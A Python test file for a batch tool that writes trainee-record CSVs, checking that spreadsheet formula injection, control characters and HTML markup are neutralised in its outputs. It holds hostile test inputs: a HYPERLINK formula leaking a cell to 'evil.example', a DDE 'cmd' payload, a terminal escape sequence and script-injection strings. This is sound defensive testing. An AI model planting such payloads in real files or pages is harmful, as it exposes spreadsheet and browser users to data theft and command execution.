"""CSV and spreadsheet safety (issue 7): no cell of any CSV the tool writes starts a formula, and Register's
CSV reads back to exactly what was meant (Register, and register-batch, strip one leading apostrophe).

Every CSV written (issues.csv from validate/convert/sync, results.csv from sync, register-csv from convert
and export) is opened with the csv module and each cell checked: a cell starting with `=`, `+`, `-`, `@`,
a tab or a carriage return must carry the leading apostrophe (a lone `-` is text to every spreadsheet).
"""

from __future__ import annotations

import csv
import json
import os
from datetime import date
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from security_inputs import check_reader

from register_batch.cli import cli
from register_batch.csvsafe import FORMULA_STARTS, neutralise, protect
from register_batch.emulator import start_emulator
from register_batch.mapping import load_mapping
from register_batch.readers import open_inputs
from register_batch.writers import RegisterCsvWriter
from trainee_extracts import trainee, write_extract

AS_OF = date(2026, 11, 28)
TOKEN = "sheet-test-token-0001"
PAYLOADS = {
    "first_names": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "last_name": "+SUM(1,2)",
    "previous_last_name": "-2+3",
    "provider_trainee_id": "@SUM(A1:A9)",
    "email": "=cmd|' /C calc'!A0",  # invalid email: reported, so it lands in issues.csv too
    "sex": "-1",  # invalid code: issues.csv value column
}


def assert_spreadsheet_safe(path: Path) -> int:
    """Every cell of a CSV file is inert in Excel and LibreOffice; returns the number of cells checked."""
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = 0
    for number, row in enumerate(rows, start=1):
        for cell in row:
            cells += 1
            assert cell == "-" or not cell.startswith(FORMULA_STARTS), f"{path.name} row {number}: {cell!r}"
    return cells


def run(*args: str, env: dict[str, str] | None = None):
    return CliRunner(env=env).invoke(cli, list(args), catch_exceptions=False)


@pytest.fixture
def hostile_extract(tmp_path) -> Path:
    rows = [trainee(n) for n in range(1, 5)]
    rows[0].update(PAYLOADS)  # invalid (email, sex): reported, not sent
    # Valid: sent and exported. A value starting with `=` is a spreadsheet_formula error, not sent (review76 F5): the
    # export's `=` payload is put in Register as someone editing the trainee in Register's service would.
    rows[1].update({k: v for k, v in PAYLOADS.items() if k not in ("email", "sex", "first_names")})
    rows[1]["provider_trainee_id"] = "-@SUM(B1:B9)"  # not the same SRS id as record 1 (a duplicate)
    rows[2]["first_names"] = "\t+1+1"  # whitespace first: read as "+1+1"
    rows[3]["last_name"] = "''=quoted"  # the cell Register reads as the value '=quoted
    return write_extract(tmp_path / "hostile.csv", rows)


def test_issues_csv_from_validate_is_inert(tmp_path, hostile_extract):
    result = run("validate", str(hostile_extract), "--as-of", AS_OF.isoformat(), "--report-dir", str(tmp_path / "r"))
    assert result.exit_code == 1
    issues = tmp_path / "r" / "issues.csv"
    text = issues.read_text(encoding="utf-8")
    assert "'@SUM(A1:A9)" in text and "'-1" in text, "the payloads did not reach issues.csv"
    assert assert_spreadsheet_safe(issues) > 10


@pytest.mark.parametrize(
    ("held", "shown"),
    [
        ("An\x00n", "An\u2400n"),  # NUL, at which spreadsheets cut a cell or the file
        ("An\x1b]0;owned\x07n\x7f", "An\u241b]0;owned\u2407n\u2421"),  # ESC ... BEL retitled the terminal of `cat`
        ("An\x9b2Jn", "An\\x9b2Jn"),  # C1's CSI, which has no control picture
    ],
)
def test_a_control_character_is_that_records_error_and_shown_as_a_symbol_in_issues_csv(tmp_path, held, shown):
    """A NUL in the first 4 KB refused the whole file as "binary content", with no line; later in the file it was the
    record's control_character error, and issues.csv then held the NUL itself, at which spreadsheets cut. An ESC was
    held as it is, and `cat issues.csv` or a `grep` in it obeyed it."""
    rows = [trainee(n) for n in (1, 2)]
    rows[0]["first_names"] = held
    result = run("validate", str(write_extract(tmp_path / "nul.csv", rows)), "--report-dir", str(tmp_path / "r"))
    assert result.exit_code == 1, result.output
    with (tmp_path / "r" / "issues.csv").open(encoding="utf-8-sig", newline="") as fh:
        found = [
            (row["record"], row["line"], row["value"])
            for row in csv.DictReader(fh)
            if row["code"] == "control_character"
        ]
    assert found == [("1", "2", shown)]
    text = (tmp_path / "r" / "issues.csv").read_text(encoding="utf-8")
    assert not any(char in text for char in held if not char.isprintable())


def test_report_html_escapes_markup(tmp_path):
    rows = [trainee(1)]
    rows[0]["email"] = '<script>alert("x")</script>@example.com'
    rows[0]["provider_trainee_id"] = '<img src=x onerror="alert(1)">'
    source = write_extract(tmp_path / "in.csv", rows)
    run("validate", str(source), "--as-of", AS_OF.isoformat(), "--report-dir", str(tmp_path / "r"))
    html = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    assert "alert" in html, "the payload did not reach the report"
    assert '<script>alert("x")' not in html and "<img src=x" not in html


def test_convert_to_register_csv_is_inert_and_reads_back_to_the_same_records(tmp_path, hostile_extract):
    out = tmp_path / "out.csv"
    result = run(
        "convert",
        str(hostile_extract),
        "--to",
        "register-csv",
        "-o",
        str(out),
        "--as-of",
        AS_OF.isoformat(),
        "--report-dir",
        str(tmp_path / "r"),
    )
    assert result.exit_code == 1  # record 1 is invalid, still written (no --skip-invalid)
    assert assert_spreadsheet_safe(out) > 50
    assert_spreadsheet_safe(tmp_path / "r" / "issues.csv")
    first = _jsonl(tmp_path, hostile_extract, "first.jsonl")
    again = _jsonl(tmp_path, out, "again.jsonl")
    assert [r["data"] for r in first] == [r["data"] for r in again]
    assert first[0]["data"]["first_names"] == PAYLOADS["first_names"]  # record 1, invalid, written all the same
    assert first[2]["data"]["first_names"] == "+1+1"
    assert first[3]["data"]["last_name"] == "'=quoted"


def _jsonl(tmp_path: Path, source: Path, name: str) -> list[dict]:
    out = tmp_path / name
    run("convert", str(source), "--to", "jsonl", "-o", str(out), "--as-of", AS_OF.isoformat())
    return [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]


def test_sync_results_and_export_are_inert_and_export_reads_back(tmp_path, hostile_extract):
    env = {"REGISTER_API_TOKEN": TOKEN}
    with start_emulator(tokens=[TOKEN], rate_limit=None, as_of=AS_OF) as emulator:
        result = run(
            "sync",
            str(hostile_extract),
            "--target",
            emulator.url,
            "--state-dir",
            str(tmp_path / "state"),
            "--report-dir",
            str(tmp_path / "r"),
            "--as-of",
            AS_OF.isoformat(),
            env=env,
        )
        assert result.exit_code == 1, result.output  # record 1 invalid; the other three created
        results = tmp_path / "r" / "results.csv"
        assert "'@SUM(A1:A9)" in results.read_text(encoding="utf-8")
        assert_spreadsheet_safe(results)
        assert_spreadsheet_safe(tmp_path / "r" / "issues.csv")
        with (tmp_path / "r" / "results.csv").open(encoding="utf-8-sig", newline="") as fh:
            [second] = [row for row in csv.DictReader(fh) if row["record"] == "2"]
        with httpx.Client(base_url=emulator.api_url, headers={"Authorization": f"Bearer {TOKEN}"}) as client:
            edited = client.patch(
                f"/trainees/{second['trainee_id']}", json={"data": {"first_names": PAYLOADS["first_names"]}}
            )
            assert edited.status_code == 200, edited.text
        out = tmp_path / "held.csv"
        exported = run(
            "export",
            "--target",
            emulator.url,
            "--academic-cycle",
            "2025",
            "--to",
            "register-csv",
            "-o",
            str(out),
            env=env,
        )
        assert exported.exit_code == 0, exported.output
    assert_spreadsheet_safe(out)
    back = {r.fields["hesa_id"]: r.fields for r in _raw_records(out)}
    sent = trainee(2)
    assert back[sent["hesa_id"]]["first_names"] == PAYLOADS["first_names"]
    assert back[sent["hesa_id"]]["last_name"] == PAYLOADS["last_name"]
    assert back[sent["hesa_id"]]["previous_last_name"] == PAYLOADS["previous_last_name"]
    assert back[trainee(4)["hesa_id"]]["last_name"] == "'=quoted"


def _raw_records(path: Path) -> list:
    found = []
    for _info, records in open_inputs([str(path)], "register-csv", load_mapping(())):
        found.extend(records)
    return found


def test_neutralise_and_protect_cover_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        value = f"{start}1+1"
        assert neutralise(value) == "'" + value
        assert protect(value) == "'" + value
    assert neutralise("-") == protect("-") == "-"
    assert neutralise("O'Neill") == protect("O'Neill") == "O'Neill"
    assert protect("'x") == "''x" and neutralise("'x") == "'x"
    assert protect("0310261553101", prefix=True) == "'0310261553101"
    assert neutralise(None) == protect(None) == ""


def test_a_report_csv_makes_each_cell_of_its_own_column_as_often_as_a_text_comes_back():
    """write_for_spreadsheets remembers the cells its columns made of short texts, which repeat from row to row: a
    text makes the same cell each time, as its column makes it (`as_text` keeps `083` as text, `neutralise` does
    not), through more texts than a column remembers, long texts and values that are not text among them."""
    import io

    from register_batch.csvsafe import REMEMBERED, REMEMBERED_CHARS, as_text, write_for_spreadsheets

    texts = ["083", "=1+1", "-3", "1.50", "2026-11-28", "\x1bx", "O'Neill", "x" * (REMEMBERED_CHARS + 1), "-"]
    values = [*texts, 83, -3, None, 1.5, True, *(f"0{n}" for n in range(REMEMBERED + 10)), *texts]
    rows = [{"value": value, "message": value, "n": number} for number, value in enumerate(values * 2)]
    out = io.StringIO()
    write_for_spreadsheets(out, ("value", "message", "n"), rows, as_text_columns=("value",))
    out.seek(0)
    read = list(csv.reader(out))
    assert read[0] == ["\ufeffvalue", "message", "n"]
    assert read[1:] == [[as_text(row["value"]), neutralise(row["message"]), str(row["n"])] for row in rows]
    assert read[1][:2] == ["'083", "083"] and read[2][:2] == ["'=1+1", "'=1+1"]


# Text a spreadsheet user could type: no line breaks (no trainee field holds one; see test_hostile_inputs) and
# nothing the CSV module cannot carry.
cell_text = (
    st.text(
        alphabet=st.characters(
            blacklist_categories=("Cs",), blacklist_characters="\n\r\x00\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
        ),
        min_size=1,
        max_size=40,
    )
    .map(str.strip)
    .filter(lambda s: s and s.lower() != "null")
)


@settings(
    max_examples=int(os.environ.get("REGISTER_BATCH_FUZZ_EXAMPLES", "0")) or 200,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(values=st.fixed_dictionaries({"first_names": cell_text, "hesa_id": cell_text, "email": cell_text}))
def test_register_csv_round_trips_any_text_through_the_one_apostrophe_rule(tmp_path, values):
    """For any value, the written cell is inert and reads back (as Register reads it) as the value itself."""
    path = tmp_path / "round.csv"
    writer = RegisterCsvWriter(path)
    writer.write(dict(values))
    writer.close()
    assert_spreadsheet_safe(path)
    with path.open(newline="", encoding="utf-8") as fh:
        row = dict(zip(*list(csv.reader(fh)), strict=True))
    for key, value in values.items():
        cell = row[key]
        assert (cell[1:] if cell.startswith("'") else cell) == value  # Register's rule: strip exactly one
    [record] = _raw_records(path)
    assert {k: record.fields[k] for k in values} == values
    assert check_reader(path, "register-csv").records == 1


@pytest.mark.parametrize("fmt", ["register-csv", "hesa-csv"])
def test_generated_csvs_are_inert_too(tmp_path, fmt):
    """`generate` writes CSVs as well; with every record carrying a defect, no cell may start a formula."""
    out = tmp_path / "generated.csv"
    result = run(
        "generate",
        "--count",
        "400",
        "--format",
        fmt,
        "-o",
        str(out),
        "--defects",
        "1",
        "--truth",
        str(tmp_path / "truth.json"),
        "--seed",
        "5",
        "--as-of",
        AS_OF.isoformat(),
    )
    assert result.exit_code == 0, result.output
    assert assert_spreadsheet_safe(out) > 400 * 20
